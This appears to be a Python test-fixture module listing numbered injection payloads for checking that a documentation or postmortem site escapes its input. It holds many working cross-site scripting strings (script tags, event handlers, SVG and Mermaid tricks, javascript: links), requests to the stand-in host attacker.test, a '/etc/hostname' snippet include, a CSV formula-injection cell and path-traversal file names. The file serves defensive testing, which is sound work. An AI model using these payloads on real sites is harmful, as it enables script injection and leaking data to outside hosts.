"""Texts that would run a script, fetch from another host or break a page, were they not escaped.

`§` stands for the payload's number, so that the one that got through is known: it calls `pwn(§)`
or fetches from `attacker.test/§`.
"""

HOST = "attacker.test"
"""The host that payloads fetch from; no request may name it."""

SCRIPTS = (
    "<script>pwn(§)</script>",
    "<ScRiPt >pwn(§)</sCrIpT >",
    "<script src=http://attacker.test/§></script>",
    "<script src=//attacker.test/§ async></script>",
    "<scr<script>ipt>pwn(§)</scr</script>ipt>",
    "</script><script>pwn(§)</script>",
    '"></title></head><body><script>pwn(§)</script>',
    "</textarea></noscript></style><script>pwn(§)</script>",
    "<script type=module>import('http://attacker.test/§')</script>",
    "<script>alert(§)</script>",
    "%3Cscript%3Epwn(§)%3C/script%3E",
    "\\u003cscript\\u003epwn(§)\\u003c/script\\u003e",
)
HANDLERS = (
    "<img src=x onerror=pwn(§)>",
    '"><img src=x onerror="pwn(§)">',
    "'><img src=x onerror='pwn(§)'>",
    "<img/src=x/onerror=pwn(§)//",
    "`\"'><img src=x onerror=pwn(§)>`",
    "x` <img src=x onerror=pwn(§)> `x",
    "<body onload=pwn(§) onpageshow=pwn(§)>",
    "<input autofocus onfocus=pwn(§)>",
    "<details open ontoggle=pwn(§)><summary>x",
    "<marquee onstart=pwn(§)>x</marquee>",
    "<a href=x onmouseover=pwn(§) onfocus=pwn(§)>x</a>",
    '" onmouseover="pwn(§)" autofocus onfocus="pwn(§)" x="',
    "' onclick='pwn(§)' style='position:fixed;inset:0' x='",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwn(§)>x</b>",
    "<select autofocus onfocus=pwn(§)><option>x",
    "<dialog open onclose=pwn(§)><form method=dialog><button>x",
)
DRAWINGS = (
    "<svg onload=pwn(§)>",
    "<svg/onload=pwn(§)//",
    "<svg><script>pwn(§)</script></svg>",
    "<svg><animate onbegin=pwn(§) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwn(§)><text y=20>x</text></a></svg>",
    "<svg><use href='http://attacker.test/§#x'/></svg>",
    "<svg><image href=http://attacker.test/§ /></svg>",
    "<svg><style>@import 'http://attacker.test/§';</style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn(§)</script>'>",
    "<math><mtext><table><mglyph><style><img src onerror=pwn(§)>",
    "</text></svg><img src=x onerror=pwn(§)>",
)
FETCHES = (
    "<img src=http://attacker.test/§ srcset='http://attacker.test/§ 2x'>",
    "<picture><source srcset=//attacker.test/§><img src=//attacker.test/§></picture>",
    "<video autoplay poster=http://attacker.test/§ src=http://attacker.test/§></video>",
    "<audio autoplay src=http://attacker.test/§ onerror=pwn(§)></audio>",
    "<link rel=stylesheet href=http://attacker.test/§>",
    "<link rel=prefetch href=http://attacker.test/§><link rel=dns-prefetch href=//attacker.test>",
    "<iframe src=http://attacker.test/§></iframe>",
    "<iframe src=javascript:parent.pwn(§)></iframe>",
    "<object data=http://attacker.test/§></object><embed src=http://attacker.test/§>",
    "<meta http-equiv=refresh content='0;url=http://attacker.test/§'>",
    "<base href=http://attacker.test/§/>",
    "<form action=http://attacker.test/§><button autofocus>x</button></form>",
    "<table background=http://attacker.test/§><td background=http://attacker.test/§>x",
    "<div style=\"background:url('http://attacker.test/§')\">x</div>",
    "<style>*{background:url(http://attacker.test/§);display:none}</style>",
    "</style><style>body{display:none;background:url(//attacker.test/§)}</style>",
)
LINKS = (
    "[x](javascript:pwn(§))",
    "[x]( java\tscript:pwn(§))",
    "[x](&#106;avascript:pwn(§))",
    "[x](javascript&colon;pwn(§))",
    "[x](java&Tab;script:pwn(§)) [y](java&#10;script:pwn(§))",
    "[x](java\nscript:pwn(§))",
    "[x](\njavascript:pwn(§))",
    "[x](`a`javascript:pwn(§)) [y](*a*javascript:pwn(§)) [z](\\javascript:pwn(§))",
    "[x](<javascript:pwn(§)> 'title')",
    "[x](vbscript:pwn(§)) [y](data:text/html,<script>pwn(§)</script>)",
    "![x](http://attacker.test/§ 'title')",
    "![x](data:image/svg+xml,<svg onload=pwn(§)>)",
    "[![x](http://attacker.test/§)](javascript:pwn(§))",
    '[x](http://a.example/" onmouseover="pwn\\(§\\))',
    "](javascript:pwn(§)) [x](",
    '[x](https://a.example/ "<img src=x onerror=pwn(§)>")',
    "[x](https://a.example/ '&lt;img src=x onerror=pwn(§)&gt;')",
    '[x][t§]\n\n[t§]: https://a.example/ "&#60;img src=x onerror=pwn(§)&#62;"',
    "<javascript:pwn(§)>",
    "<http://a.example/\"onmouseover='pwn(§)'>",
    "javascript:pwn(§)//http://a.example/",
    "[x][r§]\n\n[r§]: javascript:pwn(§)\n[x]: http://attacker.test/§ 'x'",
    "[x][s§]\n\n[s§]:\n  javascript:pwn(§)\n  'x'",
    "![x][i§]\n\n[i§]: http://attacker.test/§",
    "[^f§]\n\n[^f§]: <img src=x onerror=pwn(§)>",
    "*[x]: <img src=x onerror=pwn(§)>",
)
MARKDOWN = (
    "x {: onclick=pwn(§) style='position:fixed;inset:0' }",
    "# x {: #__drawer onclick=pwn(§) }",
    "{ .md-header onclick=pwn(§) }",
    "x\n===\n\ny\n---\n\n# z §",
    "<!-- <img src=x onerror=pwn(§)> -->",
    "<!-- x §",
    "--> <img src=x onerror=pwn(§)> <!--",
    "<div markdown=1 onclick=pwn(§)>\n\n**x**",
    "</div></article></main></div></body></html> §",
    "</td></tr></table> | x | §",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwn(§)> | x |",
    "a | b || c \\| d \\\\| §",
    "```\n<img src=x onerror=pwn(§)>\n",
    "x\n```\n\n<img src=x onerror=pwn(§)>\n\n```html\n<script>pwn(§)</script>",
    "~~~ {.html onclick=pwn(§)}\n<script>pwn(§)</script>\n~~~",
    "    <script>pwn(§)</script>",
    "``` <script>pwn(§)</script> ```",
    '!!! note "<img src=x onerror=pwn(§)>"\n    x\n\n??? note\n    y',
    '=== "<img src=x onerror=pwn(§)>"\n    x',
    "++ctrl+§++ ==x== ~~x~~ ^x^ {++x++} :smile: $x$ \\(x\\) §",
    '--8<-- "/etc/hostname" §',
    ';--8<-- "http://attacker.test/§"',
    "[TOC] [toc] §",
    "#!js pwn(§)",
    "`#!html <script>pwn(§)</script>`",
    "&lt;script&gt;pwn(§)&lt;/script&gt; &amp;lt; &#60;b&#62; &nbsp;&copy",
    "&#x3c;img src=x onerror=pwn(§)&#x3e;",
    "<![CDATA[<script>pwn(§)</script>]]>",
    "]]></content><script>pwn(§)</script><![CDATA[",
    '<?xml-stylesheet href="http://attacker.test/§"?><!DOCTYPE x [<!ENTITY x SYSTEM "//a">]>',
    "- x\n    - y\n\n> > > z\n\n1) §\n***\n§",
)
TEMPLATES = (
    "{{ config }} {{ 7*7 }}§",
    "{% for x in range(9) %}{{ x }}{% endfor %}§",
    "{% raw %}{# x #}${pwn(§)} <%= pwn(§) %>",
    "{{constructor.constructor('pwn(§)')()}}",
    "<!-- postmortems: home -->",
    "x\n\n<!-- postmortems: incidents -->\n\ny §",
    '<div data-pm-diagram="0000000000000000-1"></div>§',
    '<div data-pm-table="http://attacker.test/§"></div>',
    '<div data-pm-search="" class="md-header">§</div>',
    '</li><li class="pm-search__result"><a class="pm-search__title" href="//attacker.test/§">x</a>',
    '"},"pwned":"§","x":{"y":["',
    "\\\"};pwn(§);//'",
    "';pwn(§);'",
    "\x02wzxhzdk:§\x03",
    "wzxhzdk:§ klzzwxh:000§",
    "%s %(x)s %n {0} {x!r} $x §",
)
DIAGRAMS = (
    '"] --> x; click n1 "javascript:pwn(§)"; x["',
    'x"]\n    click n1 call pwn(§)\n    n1["x',
    "%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(//attacker.test/§)'}}%%",
    '```mermaid\ngraph TD\n  A["<img src=x onerror=pwn(§)>"] --> B\n```',
    '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:pwn(§)" "x"\n```',
    '```mermaid\n%%{init: {"themeCSS": "*{background:url(//attacker.test/§)}"}}%%\n'
    'graph TD\n  A["</text></svg><script>pwn(§)</script>"]\n```',
    "```mermaid\ngraph TD\n  A --> B\n  style A fill:url(http://attacker.test/§)\n```",
    "```mermaid\n</pre></div><script>pwn(§)</script>\n```",
    "end; subgraph x; style n1 fill:url(//attacker.test/§); classDef trigger fill:red",
    "#lt;script#gt;pwn(§)#lt;/script#gt; #quot; #35;",
)
LETTERS = (
    "ש\u05dc\u05d5\u05dd <b>אירוע</b> \u200fpwn(§) \u200eEnglish",
    "\u202egnp.exe§",
    "مرحبا (§) [x] <script>pwn(§)</script>",
    "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 §",
    "a\u200db\u200bc§",
    "Z\u0351\u036b\u0343a\u0328\u0321\u0334l\u0315\u0361g\u0489\u0338o\u0327\u0321§",
    f"{'Donaudampfschifffahrt' * 4}§",
    f"{'W' * 800}§",
    f"http://a.example/{'x' * 900}§",
    f"{'日本語' * 60}§",
    "\uff1cscript\uff1epwn(§)\uff1c/script\uff1e",
    "<\x00script>pwn(§)</script>",
    "\u2028pwn(§)\u2029//",
    f"{'(' * 60}{'[' * 60}{'<b>' * 60}§",
)

GROUPS = (SCRIPTS, HANDLERS, DRAWINGS, FETCHES, LINKS, MARKDOWN, TEMPLATES, DIAGRAMS, LETTERS)
PAYLOADS = tuple(
    text.replace("§", str(number))
    for number, text in enumerate((text for group in GROUPS for text in group), 100)
)
"""All of them, each with its number."""

ADDRESSES = tuple(
    text.replace("§", str(number))
    for number, text in enumerate(
        (
            "http://attacker.test/§?a='b'&c=(d)|e",
            "https://a.example/{:onclick=pwn(§)}",
            "https://a.example/{{x}}{%x%}§",
            "https://a.example/*x*_y_~z~^§",
            "https://a.example/])(javascript:pwn(§)",
            "https://a.example/'onmouseover='pwn(§)",
            "mailto:a.example?subject=&lt;script&gt;pwn(§)",
            "javascript:pwn(§)",
            "data:text/html,<script>pwn(§)</script>",
            "//attacker.test/§",
            'https://a.example/"onmouseover="pwn(§)',
        ),
        300,
    )
)
"""Addresses, of which some are none."""

NAMES = (
    "constructor",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "prototype",
    "undefined",
    "null",
    "length",
    "default",
    "end",
    "click",
    "graph",
    "subgraph",
    "style",
    "class",
    "href",
    "onclick",
    "javascript",
    "drawer",
    "404",
)
"""Names of entries and folders that mean something to a script, a diagram or a theme."""

METRICS = ("onclick", "constructor", "javascript.pwn(1)", "b/../../../x (%s) %3Cb%3E", "i_1.2-3")
"""Names of metrics, for which the format has no list."""

_HTML = (
    "<!doctype html><title>x</title><script>pwn(1)</script><img src=x onerror=pwn(2)>"
    "<link rel=stylesheet href=http://attacker.test/3><iframe src=http://attacker.test/4></iframe>"
    "<meta http-equiv=refresh content='0;url=http://attacker.test/5'>"
)
_DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'onload="pwn(6)"><script>pwn(7)</script><image href="http://attacker.test/8"/>'
    '<style>@import "http://attacker.test/9";</style></svg>'
)
_XHTML = (
    '<?xml version="1.0"?><?xml-stylesheet href="http://attacker.test/10" type="text/xsl"?>'
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>pwn(11)</script></html>'
)
_MARKDOWN = "# x\n\n<script>pwn(12)</script> ![x](http://attacker.test/13)\n"

FILES = {
    "page.html": _HTML,
    "page.HTM": _HTML,
    "page.xhtml": _XHTML,
    "page.xml": _XHTML,
    "page.shtml": _HTML,
    "page.md": _MARKDOWN,
    "index.md": _MARKDOWN,
    "index.html": _HTML,
    "drawing.svg": _DRAWING,
    "drawing.svg.png": _DRAWING,
    "code.js": "pwn(14)",
    "code.mjs": "pwn(15)",
    "looks.css": "@import 'http://attacker.test/16';",
    "page.txt": _HTML,
    "page.log": _HTML,
    "page.json": f'["{_HTML}"]',
    "page.csv": f"time,value\n{_HTML},=cmd|x\n",
    "page.pdf": _HTML,
    "page.png": _HTML,
    "page": _HTML,
    "page.html.": _HTML,
    ".html": _HTML,
    "page.mht": _HTML,
    "page.swf": _HTML,
    "<img src=x onerror=pwn(17)>.html": _HTML,
    '"><script>pwn(18)<.svg': _DRAWING,
    "a#b?c=d&e.html": _HTML,
    "a%2e%2e%2fb.html": _HTML,
    "{{ config }}{% x %}.md": _MARKDOWN,
    "](javascript:pwn(19)).txt": _HTML,
    "javascript:pwn(20)": _HTML,
    "a b | c ` d.txt": _HTML,
    "אירוע.svg": _DRAWING,
}
"""Files of evidence by their names: whatever a browser could take for a page or a script."""
